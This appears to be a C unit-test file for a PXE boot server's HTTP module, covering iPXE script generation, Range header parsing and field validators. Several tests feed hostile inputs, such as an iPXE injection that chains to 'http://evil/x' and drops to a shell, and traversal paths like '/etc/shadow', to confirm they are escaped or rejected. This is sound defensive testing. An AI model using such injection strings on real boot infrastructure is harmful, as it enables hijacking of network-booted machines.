/* Unit tests for the HTTP module's pure parts: the iPXE boot script
 * builder, the Range parser (RFC 9110 §14) and the field validators. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "decide/decide.h"
#include "http/boot_script.h"
#include "http/http_parse.h"

#define BASE "http://10.0.0.5:8080"

static struct decision boot_kernel(bool required)
{
	struct decision d = { .outcome = DECISION_BOOT, .required = required, .device_id = 1,
			      .deployment_id = 2 };
	strcpy(d.reason, "required deployment for device 'lab-01'");
	strcpy(d.device_name, "lab-01");
	strcpy(d.deployment_name, "deb12-lab");
	strcpy(d.image_name, "debian-12");
	strcpy(d.kernel, "debian/linux");
	strcpy(d.initrd, "debian/initrd.gz");
	strcpy(d.cmdline, "auto=true priority=critical url=http://10.0.0.5/preseed.cfg");
	return d;
}

static void test_script_required_kernel(void **state)
{
	struct decision d = boot_kernel(true);
	char buf[2048];
	int n = boot_script_build(&d, BASE, buf, sizeof(buf));
	assert_true(n > 0);
	assert_int_equal((size_t)n, strlen(buf));
	assert_true(strncmp(buf, "#!ipxe\n", 7) == 0);
	assert_non_null(strstr(buf, "\nkernel " BASE "/files/debian/linux auto=true priority=critical "
				    "url=http://10.0.0.5/preseed.cfg\n"));
	assert_non_null(strstr(buf, "\ninitrd " BASE "/files/debian/initrd.gz\n"));
	assert_non_null(strstr(buf, "\nboot\n"));
	assert_null(strstr(buf, "prompt"));
	assert_null(strstr(buf, "exit"));
}

static void test_script_no_initrd_no_cmdline(void **state)
{
	struct decision d = boot_kernel(true);
	char buf[2048];
	d.initrd[0] = d.cmdline[0] = '\0';
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	assert_non_null(strstr(buf, "\nkernel " BASE "/files/debian/linux\n"));
	assert_null(strstr(buf, "initrd"));
}

static void test_script_nbp(void **state)
{
	struct decision d = boot_kernel(true);
	char buf[2048];
	d.kernel[0] = d.initrd[0] = d.cmdline[0] = '\0';
	strcpy(d.nbp, "ipxe/snp+x64.efi");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	/* '+' is not unreserved: it is percent-encoded. */
	assert_non_null(strstr(buf, "\nchain " BASE "/files/ipxe/snp%2Bx64.efi\n"));
	assert_null(strstr(buf, "kernel"));
}

static void test_script_available_prompts(void **state)
{
	struct decision d = boot_kernel(false);
	char buf[2048];
	const char *p, *local, *deploy, *kernel;
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	p = strstr(buf, "\nprompt --key 0x0d --timeout 10000 ");
	assert_non_null(p);
	assert_non_null(strstr(p, "&& goto deploy || goto local\n"));
	local = strstr(buf, "\n:local\n");
	deploy = strstr(buf, "\n:deploy\n");
	kernel = strstr(buf, "\nkernel ");
	assert_non_null(local);
	assert_non_null(deploy);
	assert_non_null(kernel);
	/* The default path (timeout) reaches exit before any kernel line. */
	assert_true(p < local && local < deploy && deploy < kernel);
	assert_non_null(strstr(local, "exit\n"));
	assert_true(strstr(local, "exit\n") < deploy);
}

static void test_script_local_and_ignore(void **state)
{
	struct decision d = { .outcome = DECISION_LOCAL };
	char buf[512];
	strcpy(d.reason, "required deployment 'x' already handed out");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	assert_string_equal(buf, "#!ipxe\necho pxed: booting from local disk (required "
				 "deployment _x_ already handed out)\nexit\n");
	d.outcome = DECISION_IGNORE;
	strcpy(d.reason, "unknown machine, SupportUnknownMachines is off");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	assert_string_equal(buf, "#!ipxe\necho pxed: not serviced (unknown machine, "
				 "SupportUnknownMachines is off)\nexit\n");
}

static void test_script_reason_injection(void **state)
{
	struct decision d = { .outcome = DECISION_LOCAL };
	char buf[512];
	strcpy(d.reason, "x\nchain http://evil/x ${net0/mac} || shell ; echo \"a\\b\" #");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	/* exactly three lines, nothing iPXE would interpret */
	assert_null(strstr(buf, "\nchain"));
	assert_null(strpbrk(buf + 7, "${}|;\"\\#&"));
	assert_string_equal(strchr(buf + 7, '\n'), "\nexit\n");
}

static void test_script_refuses_hostile_fields(void **state)
{
	char buf[2048];
	static const char *const bad_cmdline[] = {
		"quiet\nchain http://evil/", "a ${root-path}", "a || shell", "a ; shell",
		"a && shell", "\"quoted\"", "a\\nb", "a\rb", "caf\xc3\xa9", "a # b",
	};
	static const char *const bad_path[] = {
		"", "/etc/shadow", "../secret", "a/../../b", "a b", "a\nb", "a//b", "a/", "x${y}",
		"a\\b", ".",
	};
	static const char *const bad_name[] = { "", "a b", "a\nkernel x", "${x}", "a;b" };
	for (size_t i = 0; i < ARRAY_SIZE(bad_cmdline); i++) {
		struct decision d = boot_kernel(true);
		strcpy(d.cmdline, bad_cmdline[i]);
		assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		assert_string_equal(buf, "");
	}
	for (size_t i = 0; i < ARRAY_SIZE(bad_path); i++) {
		struct decision d = boot_kernel(true);
		strcpy(d.kernel, bad_path[i]);
		assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		d = boot_kernel(true);
		strcpy(d.initrd, bad_path[i]);
		if (bad_path[i][0]) /* an empty initrd is fine: no initrd line */
			assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		d = boot_kernel(true);
		strcpy(d.nbp, bad_path[i]);
		if (bad_path[i][0])
			assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
	}
	for (size_t i = 0; i < ARRAY_SIZE(bad_name); i++) {
		struct decision d = boot_kernel(false);
		strcpy(d.deployment_name, bad_name[i]);
		assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		d = boot_kernel(false);
		strcpy(d.image_name, bad_name[i]);
		assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
	}
}

static void test_script_hostile_base_url(void **state)
{
	static const char *const bad[] = {
		"http://", "ftp://x", "http://a b", "http://x\nshell", "http://${ip}", "http://a/b",
		"http://a?b", "http://a;b", "",
	};
	struct decision d = boot_kernel(true);
	char buf[2048];
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
		assert_int_equal(boot_script_build(&d, bad[i], buf, sizeof(buf)), -EINVAL);
	assert_true(boot_script_build(&d, "http://[fe80::1]:8080", buf, sizeof(buf)) > 0);
	assert_true(boot_script_build(&d, "http://pxe.example.org", buf, sizeof(buf)) > 0);
}

static void test_script_enobufs_every_size(void **state)
{
	struct decision d = boot_kernel(false);
	char full[2048], buf[2048];
	int n = boot_script_build(&d, BASE, full, sizeof(full));
	assert_true(n > 0);
	for (size_t len = 0; len <= (size_t)n; len++) {
		char *b = len ? malloc(len) : NULL;
		assert_int_equal(boot_script_build(&d, BASE, b, len), -ENOBUFS);
		free(b);
	}
	assert_int_equal(boot_script_build(&d, BASE, buf, (size_t)n + 1), n);
	assert_string_equal(buf, full);
}

/* Range vectors.  RFC 9110 §14.1.2 examples use a 10000-byte representation. */
struct range_vec {
	const char *hdr;
	uint64_t size;
	int rc;
	uint64_t start, end;
};

static const struct range_vec range_vecs[] = {
	/* §14.1.2 examples */
	{ "bytes=0-499", 10000, HTTP_RANGE_PARTIAL, 0, 499 },
	{ "bytes=500-999", 10000, HTTP_RANGE_PARTIAL, 500, 999 },
	{ "bytes=-500", 10000, HTTP_RANGE_PARTIAL, 9500, 9999 },
	{ "bytes=9500-", 10000, HTTP_RANGE_PARTIAL, 9500, 9999 },
	{ "bytes=0-0,-1", 10000, HTTP_RANGE_IGNORE, 0, 0 },       /* two ranges: whole */
	{ "bytes= 0-999, 4500-5499, -1000", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=500-600,601-999", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=500-700,601-999", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	/* clipping and edges */
	{ "bytes=0-", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	{ "bytes=0-0", 10000, HTTP_RANGE_PARTIAL, 0, 0 },
	{ "bytes=9999-9999", 10000, HTTP_RANGE_PARTIAL, 9999, 9999 },
	{ "bytes=9000-20000", 10000, HTTP_RANGE_PARTIAL, 9000, 9999 },
	{ "bytes=-20000", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	{ "BYTES=1-2", 10000, HTTP_RANGE_PARTIAL, 1, 2 },
	{ "bytes=1-2 ", 10000, HTTP_RANGE_PARTIAL, 1, 2 },
	{ "bytes=,1-2,", 10000, HTTP_RANGE_PARTIAL, 1, 2 },
	{ "bytes=0-99999999999999999999999999", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	{ "bytes=-99999999999999999999999999", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	/* unsatisfiable (§15.5.17) */
	{ "bytes=10000-", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=10000-10001", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=-0", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=0-", 0, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=-5", 0, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=20000-,30000-", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=99999999999999999999999999-", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	/* ignored: unknown unit or invalid syntax (§14.2) */
	{ "items=0-5", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=-", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=5", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=500-499", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=a-b", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=+1-2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=1--2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=-1-2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=0x10-20", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=1-2;3", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes = 1-2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=1 -2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "", 10000, HTTP_RANGE_IGNORE, 0, 0 },
};

static void test_range_vectors(void **state)
{
	for (size_t i = 0; i < ARRAY_SIZE(range_vecs); i++) {
		const struct range_vec *v = &range_vecs[i];
		uint64_t s = 12345, e = 12345;
		int rc = http_range_parse(v->hdr, v->size, &s, &e);
		if (rc != v->rc)
			fail_msg("'%s' size %llu: rc %d, expected %d", v->hdr,
				 (unsigned long long)v->size, rc, v->rc);
		if (rc == HTTP_RANGE_PARTIAL) {
			assert_int_equal(s, v->start);
			assert_int_equal(e, v->end);
			assert_true(s <= e && e < v->size);
		}
	}
	assert_int_equal(http_range_parse(NULL, 10, NULL, NULL), HTTP_RANGE_IGNORE);
}

static void test_range_long_list(void **state)
{
	/* 1000 ranges: bounded work, ignored */
	char *h = malloc(16 + 1000 * 4);
	uint64_t s, e;
	strcpy(h, "bytes=");
	for (int i = 0; i < 1000; i++)
		strcat(h, "1-2,");
	assert_int_equal(http_range_parse(h, 10000, &s, &e), HTTP_RANGE_IGNORE);
	free(h);
}

static void test_range_prefixes(void **state)
{
	/* every prefix of a valid header parses without reading past its end */
	const char *full = "bytes=123-4567";
	for (size_t n = 0; n <= strlen(full); n++) {
		char *p = malloc(n + 1);
		uint64_t s, e;
		int rc;
		memcpy(p, full, n);
		p[n] = '\0';
		rc = http_range_parse(p, 10000, &s, &e);
		assert_true(rc == HTTP_RANGE_PARTIAL || rc == HTTP_RANGE_IGNORE);
		free(p);
	}
}

static void test_name_valid(void **state)
{
	char longest[64], toolong[65];
	memset(longest, 'a', 63);
	longest[63] = '\0';
	memset(toolong, 'a', 64);
	toolong[64] = '\0';
	assert_true(http_name_valid("lab-01"));
	assert_true(http_name_valid("Debian_12.4"));
	assert_true(http_name_valid("a"));
	assert_true(http_name_valid(longest));
	assert_false(http_name_valid(toolong));
	assert_false(http_name_valid(""));
	assert_false(http_name_valid(NULL));
	assert_false(http_name_valid("a b"));
	assert_false(http_name_valid("a/b"));
	assert_false(http_name_valid("a\nb"));
	assert_false(http_name_valid("caf\xc3\xa9"));
	assert_false(http_name_valid("x'y"));
}

static void test_path_valid(void **state)
{
	char longp[300];
	assert_true(http_path_valid("linux"));
	assert_true(http_path_valid("debian/12/initrd.gz"));
	assert_true(http_path_valid("ipxe/snp+x64.efi"));
	assert_true(http_path_valid("..a/b.."));
	assert_false(http_path_valid(NULL));
	assert_false(http_path_valid(""));
	assert_false(http_path_valid("/linux"));
	assert_false(http_path_valid(".."));
	assert_false(http_path_valid("../x"));
	assert_false(http_path_valid("a/../x"));
	assert_false(http_path_valid("a/.."));
	assert_false(http_path_valid("./a"));
	assert_false(http_path_valid("a//b"));
	assert_false(http_path_valid("a/"));
	assert_false(http_path_valid("a\\b"));
	assert_false(http_path_valid("a b"));
	assert_false(http_path_valid("a%2fb"));
	memset(longp, 'a', 299);
	longp[299] = '\0';
	assert_false(http_path_valid(longp));
	longp[255] = '\0';
	assert_true(http_path_valid(longp));
}

static void test_cmdline_valid(void **state)
{
	assert_true(http_cmdline_valid(""));
	assert_true(http_cmdline_valid("console=ttyS0,115200n8 root=/dev/nfs ip=dhcp quiet"));
	assert_false(http_cmdline_valid(NULL));
	assert_false(http_cmdline_valid("a\tb"));
	assert_false(http_cmdline_valid("a`b`"));
	assert_false(http_cmdline_valid("a{b}"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_script_required_kernel),
		cmocka_unit_test(test_script_no_initrd_no_cmdline),
		cmocka_unit_test(test_script_nbp),
		cmocka_unit_test(test_script_available_prompts),
		cmocka_unit_test(test_script_local_and_ignore),
		cmocka_unit_test(test_script_reason_injection),
		cmocka_unit_test(test_script_refuses_hostile_fields),
		cmocka_unit_test(test_script_hostile_base_url),
		cmocka_unit_test(test_script_enobufs_every_size),
		cmocka_unit_test(test_range_vectors),
		cmocka_unit_test(test_range_long_list),
		cmocka_unit_test(test_range_prefixes),
		cmocka_unit_test(test_name_valid),
		cmocka_unit_test(test_path_valid),
		cmocka_unit_test(test_cmdline_valid),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
